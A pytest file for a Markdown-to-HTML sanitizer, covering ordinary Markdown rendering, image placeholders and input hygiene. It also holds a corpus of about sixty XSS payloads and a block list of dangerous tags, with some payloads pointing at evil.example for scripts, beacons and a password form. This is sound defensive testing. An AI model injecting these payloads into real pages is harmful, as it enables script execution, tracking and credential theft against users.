"""Tests for briefing.render.markdown: ordinary Markdown and a hostile corpus. No Qt."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from briefing.render.markdown import MAX_INPUT_CHARS, render_inline, render_markdown

ALLOWED_SRC_PREFIXES = ("data:image/png;base64,", "data:image/jpeg;base64,")
FORBIDDEN = (
    "<script", "javascript:", "onerror", "onload", "onclick", "<iframe", "<object",
    "<embed", "<form", "<style", "url(", "<meta", "<link", "<base", "<svg",
)  # fmt: skip
SRC_VALUE = re.compile(r"""src\s*=\s*["']?([^"'\s>]*)""", re.IGNORECASE)
PNG_1PX = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def assert_safe(out: str) -> None:
    lowered = out.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, f"{needle!r} in output: {out[:500]!r}"
    for src in SRC_VALUE.findall(out):
        assert src.startswith(ALLOWED_SRC_PREFIXES), f"unsafe src {src[:100]!r}"


# --- ordinary Markdown ---------------------------------------------------------


def test_headings() -> None:
    out = render_markdown("# One\n\n## Two\n\n###### Six\n\nSetext\n======")
    assert "<h1>One</h1>" in out
    assert "<h2>Two</h2>" in out
    assert "<h6>Six</h6>" in out
    assert "<h1>Setext</h1>" in out


def test_emphasis() -> None:
    out = render_markdown("*em* _em2_ **strong** __strong2__ ~~not-del~~")
    assert "<em>em</em>" in out
    assert "<em>em2</em>" in out
    assert "<strong>strong</strong>" in out
    assert "<strong>strong2</strong>" in out


def test_lists() -> None:
    out = render_markdown("- a\n- b\n\ntext\n\n1. one\n2. two\n    - nested\n")
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in out
    assert "<ol>\n<li>one</li>\n<li>two<ul>\n<li>nested</li>\n</ul>\n</li>\n</ol>" in out
    # sane_lists keeps a list's start number, but "start" is not on the attribute
    # allow-list, so nh3 leaves a plain <ol>.
    assert render_markdown("3. three\n4. four") == "<ol>\n<li>three</li>\n<li>four</li>\n</ol>"


def test_sane_lists_do_not_mix_list_types() -> None:
    out = render_markdown("1. one\n\n* star\n")
    assert out.count("<ol>") == 1
    assert out.count("<ul>") == 1


def test_no_nl2br() -> None:
    assert "<br" not in render_markdown("line one\nline two")
    assert "<br>" in render_markdown("hard break  \nnext")


def test_links_keep_href_and_get_rel() -> None:
    out = render_markdown(
        '[EFF](https://www.eff.org/ "Title") and [x](http://example.org/a?b=1&c=2)'
    )
    assert '<a href="https://www.eff.org/" title="Title" rel="noopener noreferrer">EFF</a>' in out
    assert '<a href="http://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">x</a>' in out


def test_mailto_and_autolinks() -> None:
    out = render_markdown("<https://example.org> <someone@example.org> [m](mailto:a@b.org)")
    assert '<a href="https://example.org" rel="noopener noreferrer">' in out
    assert 'href="mailto:someone@example.org"' in out
    assert 'href="mailto:a@b.org"' in out


def test_relative_links_are_dropped_but_fragments_kept() -> None:
    out = render_markdown("[rel](../secret.txt) [frag](#section) [ftp](ftp://x.org/f)")
    assert "secret.txt" not in out
    assert 'href="#section"' in out
    assert "ftp://" not in out


def test_tables_use_align_attribute_not_style() -> None:
    out = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert "<table>" in out and "<thead>" in out and "<tbody>" in out
    assert '<th align="left">a</th>' in out
    assert '<td align="center">2</td>' in out
    assert '<td align="right">3</td>' in out
    assert "style" not in out


def test_code_span_and_block_escape_html() -> None:
    out = render_markdown(
        "Use `<script>alert(1)</script>` here.\n\n```python\nif a < b:\n    pass\n```\n"
    )
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in out
    assert "<pre><code>if a &lt; b:\n    pass\n</code></pre>" in out
    assert "class=" not in out
    indented = render_markdown("text\n\n    <b>raw</b>\n")
    assert "<pre><code>&lt;b&gt;raw&lt;/b&gt;\n</code></pre>" in indented


def test_blockquote_hr_abbr_footnote() -> None:
    out = render_markdown(
        "> quoted\n\n---\n\nThe HTML spec[^1].\n\n*[HTML]: Hyper Text\n\n[^1]: A note.\n"
    )
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in out
    assert "<hr>" in out
    assert '<abbr title="Hyper Text">HTML</abbr>' in out
    assert "<sup>" in out and "A note." in out
    assert "id=" not in out and "class=" not in out


def test_safe_raw_html_is_kept() -> None:
    out = render_markdown("H<sub>2</sub>O, x<sup>2</sup>, <u>u</u> <s>s</s> <del>d</del>")
    for tag in ("sub", "sup", "u", "s", "del"):
        assert f"<{tag}>" in out


def test_disallowed_attributes_are_stripped() -> None:
    out = render_markdown('<p class="x" id="y" style="color:red" title="t" lang="en">para</p>')
    assert out == "<p>para</p>"


def test_attr_list_is_not_enabled() -> None:
    # attr_list would let text set attributes ({: style=...}); it stays plain text.
    out = render_markdown("# Head {: style='color:red' }\n\npara\n{: #anchor }")
    assert out == "<h1>Head {: style='color:red' }</h1>\n<p>para\n{: #anchor }</p>"


def test_render_inline_strips_paragraph() -> None:
    assert render_inline("Hello *world*") == "Hello <em>world</em>"
    assert render_inline("two\nlines") == "two lines"
    assert render_inline("") == ""
    assert render_inline("<script>x</script>*a*") == "<em>a</em>"


def test_deterministic() -> None:
    text = "# T\n\nA[^1] B[^2]\n\n[^1]: one\n[^2]: two\n\n*[A]: aaa\n"
    assert render_markdown(text) == render_markdown(text)
    # State from one call (abbreviations, footnotes) must not leak into the next.
    assert "abbr" not in render_markdown("A")


# --- images ---------------------------------------------------------------------


def test_remote_image_becomes_placeholder_with_address() -> None:
    out = render_markdown('![Protest photo](https://cdn.example.com/p.jpg?u=1&t=2 "t")')
    assert "<img" not in out
    assert (
        '<span class="remote-image">[image: Protest photo — '
        "https://cdn.example.com/p.jpg?u=1&amp;t=2]</span>"
    ) in out


@pytest.mark.parametrize(
    "src",
    [
        "http://tracker.example/pixel.gif",
        "file:///etc/passwd",
        "images/local.png",
        "//evil.example/x.png",
        "ftp://example.org/x.png",
    ],
)
def test_non_embedded_images_are_not_loaded(src: str) -> None:
    out = render_markdown(f'<img src="{src}" alt="A &amp; B">')
    assert "<img" not in out
    assert f'<span class="remote-image">[image: A &amp; B — {src}]</span>' in out


def test_embedded_png_and_jpeg_are_kept() -> None:
    jpeg = "data:image/jpeg;base64,/9j/4AAQSkZJRg=="
    out = render_markdown(f"![dot]({PNG_1PX}) ![j]({jpeg})")
    assert f'<img src="{PNG_1PX}" alt="dot">' in out
    assert f'<img src="{jpeg}" alt="j">' in out
    assert "remote-image" not in out


@pytest.mark.parametrize(
    "src",
    [
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:image/png,rawnotbase64",
        "data:image/png;base64,not*base64",
        "DATA:image/png;base64,iVBORw0KGgo=",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_other_data_images_are_placeholders(src: str) -> None:
    out = render_markdown(f'<img src="{src}" alt="d">')
    assert "<img" not in out
    assert '<span class="remote-image">[image: d — ' in out
    assert_safe(out)


def test_forged_placeholder_class_is_stripped() -> None:
    out = render_markdown('<span class="remote-image">[image: fake — http://x]</span>')
    assert "remote-image" not in out
    assert "<span>[image: fake — http://x]</span>" in out


# --- input hygiene ----------------------------------------------------------------


def test_nul_and_bidi_controls_are_removed() -> None:
    controls = "\x00\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    out = render_markdown(f"safe{controls}text [a{controls}b](https://x.org/)")
    for ch in controls:
        assert ch not in out
    assert "safetext" in out


def test_overlong_input_is_truncated_with_notice() -> None:
    text = "a" * (MAX_INPUT_CHARS + 10) + "TAIL"
    out = render_markdown(text)
    assert "TAIL" not in out
    assert "only the first 2,000,000 characters are shown" in out
    assert out.count("a") >= MAX_INPUT_CHARS
    assert "characters are shown" not in render_markdown("a" * 100)


# --- hostile corpus ---------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script type="text/javascript" src="http://evil.example/x.js"></script>',
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "text <script\n>alert(1)</script\n> more",
    "`<script>alert(1)</script>`",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<body onload="alert(1)">hi</body>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)" ONMOUSEOVER=alert(2)>hover</div>',
    "<img src=x\nonerror\n=\nalert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](&#106;avascript:alert(1))",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \n javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<img src="http://tracker.example/pixel.gif">',
    "![x](http://tracker.example/pixel.gif)",
    '<img src="javascript:alert(1)">',
    '<div style="background:url(http://evil.example/x.png)">styled</div>',
    '<p style="background-image: URL(&quot;http://evil.example&quot;)">p</p>',
    "<style>body { background: url(http://evil.example/x.png) }</style>",
    "<STYLE>@import url(http://evil.example/x.css);</STYLE>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="http://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example"><input name="p" type="password"></form>',
    '<input autofocus onfocus="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    "<div><p><b><i>nested <u>and <s>unclosed",
    "<a href='http://ok.example'><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a title="<script>alert(1)</script>">t</a>',
    '<img alt="</span><script>alert(1)</script>" src=x>',
    "nul\x00<scr\x00ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u2066[x](javascript:alert(1))\u2069",
    '<span class="remote-image" onclick="alert(1)">forged</span>',
    '<img src="http://x.example/a.png" srcset="http://y.example/b.png 2x">',
    '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
    '<a href="https://ok.example" style="color:red" class="x" id="y">ok</a>',
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_corpus(payload: str) -> None:
    assert_safe(render_markdown(payload))
    assert_safe(render_inline(payload))


def test_hostile_corpus_size() -> None:
    assert len(HOSTILE) >= 30


def test_one_megabyte_note() -> None:
    block = (
        "## Section\n\nSome *text* with a [link](https://example.org) and `code`.\n\n"
        "- item <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n\n"
    )
    text = (block * (1_000_000 // len(block) + 1))[:1_000_000]
    out = render_markdown(text)
    assert len(out) > 500_000
    assert "<h2>Section</h2>" in out
    assert_safe(out)


# --- properties -------------------------------------------------------------------

IMG_TAG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=2000))
def test_property_arbitrary_text(text: str) -> None:
    for out in (render_markdown(text), render_inline(text)):
        assert "<script" not in out.lower()
        for tag in IMG_TAG.findall(out):
            srcs = SRC_VALUE.findall(tag)
            assert len(srcs) == 1 and srcs[0].startswith(ALLOWED_SRC_PREFIXES), tag


_HTMLISH = st.lists(
    st.sampled_from(
        [
            "<", ">", "/", "=", '"', "'", " ", "\n", "img", "script", "src", "alt",
            "onerror", "javascript:", "data:image/png;base64,", "http://x/",
            "![", "](", ")", "[", "]", "`", "*", "&#", "106;", "svg", "class=",
            "remote-image", "span", "a href", "style", "url(",
        ]
    ),
    max_size=60,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_HTMLISH)
def test_property_html_like_fragments(text: str) -> None:
    for out in (render_markdown(text), render_inline(text)):
        assert "<script" not in out.lower()
        assert "<svg" not in out.lower()
        assert 'class="remote-image"' not in out or out.count('class="remote-image"') == out.count(
            "[image: "
        )
        for tag in IMG_TAG.findall(out):
            srcs = SRC_VALUE.findall(tag)
            assert len(srcs) == 1 and srcs[0].startswith(ALLOWED_SRC_PREFIXES), tag
